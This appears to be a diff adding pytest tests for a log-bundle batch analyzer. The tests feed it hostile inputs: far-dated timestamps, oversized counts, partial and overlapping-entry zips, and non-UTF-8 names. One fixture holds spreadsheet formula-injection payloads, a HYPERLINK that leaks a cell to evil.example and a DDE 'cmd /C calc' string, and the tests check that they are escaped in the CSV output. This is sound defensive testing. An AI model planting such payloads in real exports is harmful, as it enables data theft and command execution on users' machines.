@@ -499,3 +499,212 @@ def test_one_run_at_a_time_per_output_folder(tmp_path):
     finally:
         held.close()
     assert B.execute([d], out, jobs=1, progress="none", **FAKE).analysed == 5
+
+
+# --- hostile reports: far times, values no column holds, formula text, partial bundles ----------
+def hostile_analyze(path, **options):
+    """Reports built by hand: far*/ stamped year 9999 and 0001, huge*/ a count beyond 64 bits,
+    nofacts*/ a report summarise() cannot read, formula*/ spreadsheet formulas in its facts,
+    partial*/ read only in part (Report.partial), oldpartial*/ partial told by a problem only."""
+    from datetime import datetime, timezone
+
+    from loganalyzer.model import Facts, Finding, ParseProblem, Report
+    name = Path(path).name
+    far_hi = datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=timezone.utc)
+    far_lo = datetime(1, 6, 17, 4, 30, 17, tzinfo=timezone.utc)
+    if name.startswith("far"):
+        report = fake_analyze(path, **options)
+        report.findings = [Finding("agent-crash-loop", "error", 0.9, 2, far_lo, far_hi)]
+        report.facts.collection_time = far_hi
+        return report
+    if name.startswith("huge"):
+        return Report(bundle=str(path), findings=[Finding("agent-crash-loop", "error", 0.9, 2 ** 70, None, None)],
+                      patterns_version="fake-1")
+    if name.startswith("nofacts"):
+        return Report(bundle=str(path), facts=None, patterns_version="fake-1")
+    if name.startswith("formula"):
+        facts = Facts(agent_goal_state_version="-2+3", os_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
+                      os_version="=1+1")
+        facts.extension("@SUM(1)")
+        facts.extension("Microsoft.Azure.RecoveryServices.VMSnapshotLinux")
+        f = Finding("agent-crash-loop", "error", -0.25, 1, None, None, details={"ext": ["+cmd|' /C calc'!A0"]})
+        return Report(bundle=str(path), findings=[f], facts=facts, patterns_version="fake-1")
+    if name.startswith("partial"):
+        report = Report(bundle=str(path), patterns_version="fake-1")
+        report.partial = True  # the lead's Report.partial / partial_reasons (set by hand before they land)
+        report.partial_reasons = ["logs.zip: 299 members share their data with another member", "x: cut at 1 GiB"]
+        return report
+    if name.startswith("oldpartial"):
+        report = Report(bundle=str(path), patterns_version="fake-1",
+                        problems=[ParseProblem("logs.zip", "the size limit is reached (bundle is partial)",
+                                               severity="error")])
+        if hasattr(report, "partial"):  # the model has the field: it says so itself
+            report.partial, report.partial_reasons = True, ["logs.zip: the size limit is reached"]
+        return report
+    return fake_analyze(path, **options)
+
+
+def _hostile_fleet(tmp_path: Path, *names: str) -> Path:
+    d = tmp_path / "hostile"
+    d.mkdir()
+    write_zip(d / "good1.zip")
+    (d / "good2.log").write_text(QUIET_LINES)
+    for n in names:
+        write_bundle_dir(d / n, AGENT_LINES + n + "\n")  # distinct bytes: nothing is reused by hash
+    return d
+
+
+def test_far_dated_and_untabulable_bundles_are_rows_not_a_failed_batch(tmp_path):
+    d = _hostile_fleet(tmp_path, "far9999", "huge", "nofacts")
+    out = tmp_path / "out"
+    fleet = B.execute([d], out, jobs=2, timeout=60, progress="none", analyze_fn=hostile_analyze,
+                      patterns_version="fake-1")
+    rows = fleet.bundles.set_index("bundle")
+    assert dict(rows["status"].astype(str)) == {"good1.zip": "ok", "good2.log": "ok", "far9999": "ok",
+                                                "huge": "error", "nofacts": "error"}
+    assert rows.loc["good1.zip", "top_cause"] == "agent-crash-loop"
+    assert "cannot tabulate" in rows.loc["huge", "error"] and "count" in rows.loc["huge", "error"]
+    assert "\n" not in rows.loc["huge", "error"]
+    assert rows.loc["nofacts", "error"].startswith("AttributeError")
+    findings = fleet.findings.set_index("bundle")
+    assert pd.isna(findings.loc["far9999", "first_seen"]) and pd.isna(findings.loc["far9999", "last_seen"])
+    assert findings.loc["good1.zip", "first_seen"] == pd.Timestamp("2024-05-01T10:05:00Z")
+    assert "huge" not in findings.index
+    for name in ("bundles.parquet", "bundles.csv", "findings.parquet", "findings.csv"):
+        assert (out / name).is_file()
+    assert len(pd.read_csv(out / "bundles.csv")) == 5
+    assert fleet.report("far9999")["findings"][0]["last_seen"].startswith("9999-12-31")  # the JSON keeps it
+    assert fleet.exit_code == 1
+    again = B.execute([d], out, jobs=2, timeout=60, progress="none", analyze_fn=hostile_analyze,
+                      patterns_version="fake-1")
+    assert again.analysed == 2 and again.skipped == 3  # the error rows are tried again, the rest reused
+    pd.testing.assert_frame_equal(fleet.findings, again.findings)
+
+
+def test_a_bad_row_in_the_state_file_is_that_bundles_error_row(tmp_path):
+    """Rows stored by an earlier run (any layout) are checked again when the tables are built."""
+    d = _hostile_fleet(tmp_path)
+    out = tmp_path / "out"
+    B.execute([d], out, jobs=1, timeout=60, progress="none", **FAKE)
+    entries = [json.loads(x) for x in (out / "state.jsonl").read_text().splitlines()]
+    for e in entries:
+        if e["row"]["bundle"] == "good1.zip":
+            e["row"]["finding_count"] = "many"
+            e["findings"][0]["first_seen"] = "0001-01-01T00:00:00Z"
+    (out / "state.jsonl").write_text("".join(json.dumps(e) + "\n" for e in entries))
+    fleet = B.execute([d], out, jobs=1, timeout=60, progress="none", **FAKE)
+    rows = fleet.bundles.set_index("bundle")
+    assert rows.loc["good1.zip", "status"] == "error" and "finding_count" in rows.loc["good1.zip", "error"]
+    assert rows.loc["good2.log", "status"] == "ok"
+
+
+def test_real_analysis_of_far_dated_bundles(tmp_path):
+    """Year 9999 and 0001 through the real analysis: the batch completes and writes every table."""
+    d = tmp_path / "real"
+    d.mkdir()
+    write_zip(d / "good.zip")
+    crash = AGENT_LINES.splitlines()[1].split(" ", 1)[1]
+    write_bundle_dir(d / "y9999", f"9999-12-31T23:59:59.999999Z {crash}\n9999-12-31T23:59:59.999999Z {crash}\n")
+    write_bundle_dir(d / "y0001", f"0001-01-01T00:00:00.000000Z {crash}\n0001-01-01T00:00:01.000000Z {crash}\n")
+    out = tmp_path / "out"
+    fleet = B.execute([d], out, jobs=2, timeout=120, progress="none")
+    rows = fleet.bundles.set_index("bundle")
+    assert sorted(rows.index) == ["good.zip", "y0001", "y9999"]
+    assert rows.loc["good.zip", "status"] == "ok" and "agent-crash-loop" in rows.loc["good.zip", "causes"]
+    for far in ("y0001", "y9999"):  # ok once the analyzer copes with the year; an error row before
+        assert rows.loc[far, "status"] in ("ok", "error")
+        if rows.loc[far, "status"] == "error":
+            assert "\n" not in rows.loc[far, "error"]
+    for name in ("bundles.parquet", "bundles.csv", "findings.parquet", "findings.csv"):
+        assert (out / name).is_file()
+    f = fleet.findings
+    assert f[f["bundle"].isin(["y0001", "y9999"])]["first_seen"].isna().all()
+
+
+def test_csv_cells_that_are_formulas_are_escaped_but_the_tables_keep_them(tmp_path):
+    d = _hostile_fleet(tmp_path, "formula")
+    out = tmp_path / "out"
+    fleet = B.execute([d], out, jobs=1, timeout=60, progress="none", analyze_fn=hostile_analyze,
+                      patterns_version="fake-1")
+    row = fleet.bundles.set_index("bundle").loc["formula"]
+    assert row["os"] == '=HYPERLINK("http://evil.example/?"&A1,"click") =1+1'  # the DataFrame: true text
+    assert row["extensions"].startswith("@SUM(1),") and row["agent_version"] == "-2+3"
+    parquet = pd.read_parquet(out / "bundles.parquet").set_index("bundle").loc["formula"]
+    assert parquet["os"] == row["os"]
+    csv = pd.read_csv(out / "bundles.csv", dtype=str, keep_default_na=False).set_index("bundle").loc["formula"]
+    assert csv["os"] == "'" + row["os"] and csv["extensions"] == "'" + row["extensions"]
+    assert csv["agent_version"] == "'-2+3"
+    fcsv = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False).set_index("bundle").loc["formula"]
+    assert fcsv["extension"] == "'+cmd|' /C calc'!A0"
+    assert fcsv["confidence"] == "-0.25" and fcsv["count"] == "1"  # numbers are not text: never escaped
+    assert fleet.findings.set_index("bundle").loc["formula", "confidence"] == -0.25
+    import csv as _csv
+    for name in ("bundles.csv", "findings.csv"):
+        with open(out / name, newline="", encoding="utf-8") as fh:
+            for cells in _csv.reader(fh):
+                for cell in cells:
+                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+                    assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+(e-?\d+)?", cell), (name, cell)
+
+
+def test_partial_bundles_are_flagged(tmp_path):
+    d = _hostile_fleet(tmp_path, "partial", "oldpartial")
+    fleet = B.execute([d], tmp_path / "out", jobs=2, timeout=60, progress="none", analyze_fn=hostile_analyze,
+                      patterns_version="fake-1")
+    rows = fleet.bundles.set_index("bundle")
+    assert str(fleet.bundles["partial"].dtype) == "bool"
+    assert rows["partial"].to_dict() == {"good1.zip": False, "good2.log": False, "partial": True,
+                                         "oldpartial": True}
+    assert rows.loc["partial", "status"] == "ok"
+    assert rows.loc["partial", "note"].startswith("bundle read only in part: logs.zip: 299 members")
+    assert "cut at 1 GiB" in rows.loc["partial", "note"]
+    assert "size limit" in rows.loc["oldpartial", "note"] and pd.isna(rows.loc["good1.zip", "note"])
+    text = fleet.summary()
+    assert "2 bundle(s) read only in part" in text and "(2 of them read only in part)" in text
+    back = pd.read_parquet(tmp_path / "out" / "bundles.parquet").set_index("bundle")
+    assert bool(back.loc["partial", "partial"]) and not bool(back.loc["good1.zip", "partial"])
+
+
+def test_partial_progress_line(tmp_path, capsys):
+    d = _hostile_fleet(tmp_path, "partial")
+    assert B.run_batch([d], tmp_path / "out", jobs=1, timeout=60, analyze_fn=hostile_analyze,
+                       patterns_version="fake-1") == 0
+    err = capsys.readouterr().err
+    line = next(x for x in err.splitlines() if " partial " in x)
+    assert "no cause found [partial: bundle read only in part" in line
+
+
+def test_real_zip_with_overlapping_entries_is_partial(tmp_path):
+    sys.path.insert(0, str(Path(__file__).parent))
+    try:
+        from hostile_archives import overlapping_zip
+    finally:
+        sys.path.pop(0)
+    d = tmp_path / "fleet"
+    d.mkdir()
+    write_zip(d / "good.zip")
+    overlapping_zip(d / "bomb.zip", "var/log/waagent.log", AGENT_LINES.encode() * 10, 40)
+    fleet = B.execute([d], tmp_path / "out", jobs=2, timeout=120, progress="none")
+    rows = fleet.bundles.set_index("bundle")
+    assert rows.loc["bomb.zip", "partial"] and not rows.loc["good.zip", "partial"]
+    assert "overlapping" in rows.loc["bomb.zip", "note"] or "member" in rows.loc["bomb.zip", "note"]
+    assert rows.loc["good.zip", "status"] == "ok"
+
+
+def test_undecodable_bundle_name_is_a_row_and_reused(tmp_path):
+    """A folder named with bytes that are not UTF-8 (a lone surrogate in Python) is analysed,
+    stored in state.jsonl, written to every table and skipped on the next run."""
+    d = _hostile_fleet(tmp_path)
+    try:
+        os.makedirs(os.fsencode(str(d)) + b"/vm\xff/var/log")
+    except (OSError, UnicodeError):
+        pytest.skip("this file system refuses names that are not UTF-8")
+    with open(os.fsencode(str(d)) + b"/vm\xff/var/log/waagent.log", "w") as fh:
+        fh.write(AGENT_LINES)
+    out = tmp_path / "out"
+    fleet = B.execute([d], out, jobs=1, timeout=60, progress="none", **FAKE)
+    rows = fleet.bundles.set_index("bundle")
+    assert rows.loc["vm", "status"] == "ok" and rows.loc["vm", "path"].endswith("vm\ufffd")
+    assert len(pd.read_csv(out / "bundles.csv")) == 3 and len(pd.read_parquet(out / "bundles.parquet")) == 3
+    again = B.execute([d], out, jobs=1, timeout=60, progress="none", **FAKE)
+    assert again.analysed == 0 and again.skipped == 3
